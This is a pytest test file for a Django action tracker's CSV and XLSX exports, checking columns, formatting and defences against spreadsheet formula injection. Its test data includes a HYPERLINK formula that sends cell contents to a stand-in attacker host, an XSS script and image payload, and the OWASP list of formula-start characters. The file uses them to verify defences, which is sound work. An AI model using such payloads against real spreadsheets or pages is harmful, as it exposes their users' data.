"""The tracker's exports (priorities/exports.py): the columns, CSV and the formatted XLSX."""

import csv
import datetime
import io
import re
import zipfile

import openpyxl
import pytest
from django.http import HttpResponse
from django.urls import reverse
from django.utils import timezone

from priorities.exports import (
    HEADERS,
    csv_cell,
    rag_word,
    safe_cell,
    write_csv,
    xlsx_bytes,
)
from priorities.models import Action, ProgressUpdate, Rag
from sab.markdown import plain_text
from tests.factories import ActionFactory, PersonFactory, ProgressUpdateFactory

FORMULA = '=HYPERLINK("http://evil.example","Click")'


def _at(day: datetime.date) -> datetime.datetime:
    return timezone.make_aware(datetime.datetime.combine(day, datetime.time(12)))


@pytest.fixture
def rows(priority, group, period):
    """Three actions: one updated twice (the newer update recorded first, so only the dates
    tell which is the latest), one never updated, one whose text is a formula."""
    updated = ActionFactory(
        priority=priority,
        ref="2b.1",
        lead_group=group,
        lead_person=PersonFactory(name="Sam Patel"),
        status="in_progress",
        due_date=datetime.date(2026, 9, 30),
        description="Review multi-agency meetings",
    )
    ProgressUpdateFactory(
        action=updated,
        period=period,
        text="Audit **done**; report to the [Board](https://example.org/board).",
        rag="red",
        created_at=_at(datetime.date(2026, 3, 2)),
    )
    ProgressUpdateFactory(
        action=updated,
        text="An older update",
        rag="green",
        created_at=_at(datetime.date(2026, 1, 5)),
    )
    never = ActionFactory(priority=priority, ref="2b.2", lead_text="SEG / Executive")
    formula = ActionFactory(priority=priority, ref="2b.3", description=FORMULA)
    ProgressUpdateFactory(action=formula, text="=1+1", rag="complete")
    return updated, never, formula


def _tracker(board):
    return Action.objects.for_board(board).for_tracker()


def _csv(board) -> list[dict[str, str]]:
    stream = io.StringIO()
    write_csv(_tracker(board), stream)
    text = stream.getvalue()
    assert text.startswith("\ufeff")  # so that Excel reads it as UTF-8
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def _sheet(board, title="LSAB actions"):
    return openpyxl.load_workbook(io.BytesIO(xlsx_bytes(_tracker(board), title=title))).active


def test_the_columns_keep_the_old_ones_in_place_and_add_the_latest_progress():
    assert HEADERS[:12] == [
        "Plan", "Priority", "Ref", "Action", "Outcome measure", "Lead", "Lead person",
        "Due date", "Timescale", "Status", "Latest RAG", "Last updated",
    ]  # fmt: skip
    assert HEADERS[12:] == ["Period", "Latest progress"]


def test_rag_words_have_no_colour_in_brackets():
    assert [rag_word(rag) for rag in Rag.values] == ["Red", "Amber", "Green", "Complete"]
    assert rag_word("") == rag_word(None) == "Not rated"


def test_csv_has_the_latest_update_as_plain_text(board, rows):
    updated, never, formula = _csv(board)
    assert updated["Ref"] == "2b.1"
    assert updated["Latest RAG"] == "Red"
    assert updated["Latest progress"] == (
        "Audit done; report to the Board (https://example.org/board)."
    )
    assert "older" not in updated["Latest progress"]
    assert updated["Last updated"] == "02/03/2026"
    assert updated["Period"] == "This quarter"
    assert updated["Due date"] == "30/09/2026"
    assert updated["Lead"] == "Performance Sub-Group"
    assert updated["Lead person"] == "Sam Patel"
    assert updated["Status"] == "In progress"
    assert never["Latest RAG"] == "Not rated"
    assert never["Latest progress"] == never["Last updated"] == never["Period"] == ""
    assert never["Lead"] == "SEG / Executive"
    assert formula["Latest RAG"] == "Complete"


def test_csv_defuses_spreadsheet_formulas(board, rows):
    formula = _csv(board)[2]
    assert formula["Action"] == "'" + FORMULA
    assert formula["Latest progress"] == "'=1+1"


def test_csv_writes_to_a_response(board, rows):
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    write_csv(_tracker(board), response)
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeffPlan,Priority,Ref,")
    assert "Audit done" in body


@pytest.mark.parametrize(
    ("markdown", "text"),
    [
        (
            "Plain.\nOn its own line.\n\nA paragraph & < more",
            "Plain.\nOn its own line.\n\nA paragraph & < more",
        ),
        (
            "Done:\n\n- one\n- two\n    - nested\n\n1. first\n2. second",
            "Done:\n\n• one\n• two\n  • nested\n\n1. first\n2. second",
        ),
        ("<b>Raw</b> HTML<script>alert(1)</script><img src=x onerror=alert(1)>", "Raw HTML"),
        (
            "See <https://example.org> or [us](mailto:sab@example.org)",
            "See https://example.org or us (mailto:sab@example.org)",
        ),
        ("## Heading\n\n| A | B |\n|---|---|\n| 1 | 2 |", "Heading\n\nA | B\n1 | 2"),
        ("Hard  \nbreak", "Hard\nbreak"),
        ("", ""),
        (None, ""),
    ],
)
def test_progress_markdown_is_exported_as_readable_text(markdown, text):
    assert plain_text(markdown) == text


def test_xlsx_is_formatted_for_people(board, rows):
    sheet = _sheet(board)
    column = {name: index for index, name in enumerate(HEADERS, start=1)}
    letter = {name: openpyxl.utils.get_column_letter(i) for name, i in column.items()}

    assert sheet.title == "LSAB actions"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{letter['Latest progress']}4"
    assert [cell.value for cell in sheet[1]] == HEADERS
    assert all(cell.font.b for cell in sheet[1])

    width = {name: sheet.column_dimensions[letter[name]].width for name in HEADERS}
    for wide in ("Action", "Outcome measure", "Latest progress"):
        for narrow in ("Ref", "Latest RAG", "Due date", "Last updated"):
            assert width[wide] >= 2 * width[narrow], (wide, narrow)

    def cell(row, name):
        return sheet.cell(row=row, column=column[name])

    progress = cell(2, "Latest progress")
    assert progress.value == "Audit done; report to the Board (https://example.org/board)."
    assert progress.alignment.wrap_text
    assert progress.alignment.vertical == "top"
    assert cell(2, "Action").alignment.wrap_text
    assert not cell(2, "Ref").alignment.wrap_text

    due, updated = cell(2, "Due date"), cell(2, "Last updated")
    assert due.is_date and due.value.date() == datetime.date(2026, 9, 30)
    assert updated.is_date and updated.value.date() == datetime.date(2026, 3, 2)
    assert due.number_format == updated.number_format == "dd/mm/yyyy"

    assert cell(2, "Latest RAG").value == "Red"
    assert cell(2, "Latest RAG").fill.fgColor.rgb.endswith("F4D7D7")
    assert cell(2, "Period").value == "This quarter"
    assert cell(3, "Latest RAG").value == "Not rated"
    assert cell(3, "Latest progress").value in {None, ""}
    assert cell(3, "Due date").value is None
    assert cell(4, "Latest RAG").value == "Complete"


def test_xlsx_keeps_a_formula_as_text(board, rows):
    sheet = _sheet(board)
    action = sheet.cell(row=4, column=HEADERS.index("Action") + 1)
    progress = sheet.cell(row=4, column=HEADERS.index("Latest progress") + 1)
    assert (action.value, action.data_type) == (FORMULA, "s")
    assert (progress.value, progress.data_type) == ("=1+1", "s")


def test_xlsx_drops_characters_a_spreadsheet_cannot_hold(board, priority):
    ActionFactory(priority=priority, description="Bell\x07 and vertical tab\x0b")
    sheet = _sheet(board, title="A title: with [odd] characters and far too long")
    assert sheet.cell(row=2, column=HEADERS.index("Action") + 1).value == "Bell and vertical tab"
    assert sheet.title == "A title- with -odd- characters"  # 31 characters at most


@pytest.mark.parametrize("n", [3, 300])
def test_exports_read_the_actions_in_one_query(
    board, priority, group, period, n, django_assert_max_num_queries
):
    """The actions with their plan, leads and latest update (rating, text, date, period and
    its label) come from one query however many rows there are: nothing per row."""
    for i in range(n):
        action = ActionFactory(
            priority=priority, ref=f"R{i}", lead_group=group, lead_person=PersonFactory()
        )
        ProgressUpdate.objects.create(
            action=action, period=period, text=f"Update {i}", status="in_progress", rag="amber"
        )
    with django_assert_max_num_queries(1):
        write_csv(_tracker(board), io.StringIO())
    with django_assert_max_num_queries(1):
        content = xlsx_bytes(_tracker(board), title="Actions")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet.max_row == n + 1
    assert sheet.cell(row=n + 1, column=len(HEADERS)).value == f"Update {n - 1}"


# --- Formula injection (issue 13): one rule for both exports ---------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
OWASP_FORMULA_STARTS = "=+-@\t\r"  # OWASP, "CSV Injection"


def _export(client, board, fmt: str) -> bytes:
    response = client.get(
        reverse("priorities:tracker-export", kwargs={"slug": board.slug, "fmt": fmt})
    )
    assert response.status_code == 200
    return response.content


def test_the_xlsx_export_writes_a_formula_as_text_never_as_a_formula(
    client, manager, board, priority
):
    """The workbook a board manager downloads holds no formula at all (no <f> element in
    any part), and the cell reads back as the text that was typed, marked as text so that
    editing the cell in Excel does not turn it into a formula either."""
    ActionFactory(priority=priority, description=HYPERLINK, outcome_measure="@SUM(1+1)")
    client.force_login(manager)

    content = _export(client, board, "xlsx")

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            assert not re.search(rb"<(\w+:)?f[\s>/]", archive.read(name)), name
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    action = sheet.cell(row=2, column=HEADERS.index("Action") + 1)
    outcome = sheet.cell(row=2, column=HEADERS.index("Outcome measure") + 1)
    assert (action.value, action.data_type, action.quotePrefix) == (HYPERLINK, "s", True)
    assert (outcome.value, outcome.data_type, outcome.quotePrefix) == ("@SUM(1+1)", "s", True)
    ref = sheet.cell(row=2, column=HEADERS.index("Ref") + 1)
    assert not ref.quotePrefix  # ordinary text is left alone


@pytest.mark.parametrize("start", list(OWASP_FORMULA_STARTS))
def test_both_exports_keep_each_formula_start_as_text(client, manager, board, priority, start):
    """OWASP's list (= + - @ tab and carriage return): the CSV cell gets an apostrophe, the
    XLSX cell is a text cell with the text unchanged."""
    description = f"{start}1+1 cmd"
    ActionFactory(priority=priority, description=description)
    client.force_login(manager)

    rows = list(csv.DictReader(io.StringIO(_export(client, board, "csv").decode("utf-8-sig"))))
    assert rows[0]["Action"] == "'" + description
    sheet = openpyxl.load_workbook(io.BytesIO(_export(client, board, "xlsx"))).active
    cell = sheet.cell(row=2, column=HEADERS.index("Action") + 1)
    # The text unchanged; openpyxl without lxml writes a carriage return as plain XML, which
    # reads back as a line feed; with lxml (a test dependency, via pikepdf) it survives.
    assert cell.value in {description, description.replace("\r", "\n")}
    assert (cell.data_type, cell.quotePrefix) == ("s", True)


@pytest.mark.parametrize(
    ("value", "csv_text"),
    [
        ("\tcmd", "'\tcmd"),
        ("\r=1+1", "'\r=1+1"),
        ("=1+1", "'=1+1"),
        ("+44 116 000", "'+44 116 000"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("Plain text = fine", "Plain text = fine"),
        (" =1+1", " =1+1"),  # not at the start: a spreadsheet shows it as text
        ("", ""),
        (None, ""),
        (datetime.date(2026, 3, 31), "31/03/2026"),
        (7, "7"),
    ],
)
def test_safe_cell_for_csv(value, csv_text):
    assert safe_cell(value) == csv_text


def test_the_csv_rule_keeps_its_older_name():
    """reviews.views imports csv_cell for the referrals register: the same rule."""
    assert csv_cell is safe_cell
    assert csv_cell("\tx") == "'\tx"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "=1+1"),  # kept: the cell is a text cell
        ("Bell\x07", "Bell"),
        ("x" * 40_000, "x" * 32_767),
        (None, None),
        (datetime.date(2026, 3, 31), datetime.date(2026, 3, 31)),
        (3, 3),
    ],
)
def test_safe_cell_for_a_workbook(value, cell):
    assert safe_cell(value, workbook=True) == cell
